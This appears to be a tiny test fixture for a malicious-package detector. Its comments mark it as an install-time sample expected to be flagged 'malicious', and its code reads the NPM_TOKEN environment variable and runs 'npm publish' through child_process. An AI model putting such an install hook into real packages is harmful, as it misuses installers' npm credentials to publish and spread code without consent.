// when: install
// expect: malicious
const {execSync} = require('child_process');
const t = process.env.NPM_TOKEN;
execSync('npm publish --access public');
